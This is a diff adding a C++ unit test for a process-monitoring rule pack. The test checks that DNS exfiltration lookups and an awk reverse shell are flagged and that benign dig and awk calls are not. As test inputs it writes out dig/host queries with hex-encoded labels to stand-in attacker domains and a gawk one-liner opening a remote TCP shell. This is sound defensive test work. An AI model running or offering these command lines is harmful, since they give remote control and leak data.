@@ -316,5 +316,30 @@ TEST(RulePack, EverySelectionOfVigilsRulesIsUsedByItsCondition) {
   }
 }
 
+TEST(RulePack, DnsExfiltrationAndAwkReverseShells) {
+  sigma::LoadReport report;
+  auto pack = RulePack::load(RulePackOptions{}, report);
+  ProcessTable table(100, "");
+  auto ids_for = [&](std::string exe, std::initializer_list<std::string_view> args) {
+    const Event e = exec_event(40, 1, std::move(exe), args);
+    std::vector<const Indicator*> hits;
+    pack->evaluate(e, table, hits);
+    std::vector<std::string> ids;
+    for (const auto* h : hits) ids.emplace_back(h->id);
+    return ids;
+  };
+  using V = std::vector<std::string>;
+  EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "+short", "6c6f63616c686f73740a7667.x.example", "TXT"}),
+            V{"dns-exfil-long-label"});
+  EXPECT_EQ(ids_for("/usr/bin/host", {"host", "74657374696e67206578666c.attacker.io"}),
+            V{"dns-exfil-long-label"});
+  EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "@127.0.0.1", "www.example.com"}), V{});
+  EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "selector1._domainkey.example.com", "TXT"}), V{});
+  EXPECT_EQ(ids_for("/usr/bin/gawk",
+                    {"gawk", "BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";while(1){s|&getline c}}"}),
+            V{"script-reverse-shell"});
+  EXPECT_EQ(ids_for("/usr/bin/awk", {"awk", "{print $1}", "/etc/hosts"}), V{});
+}
+
 }  // namespace
 }  // namespace vigil::agent
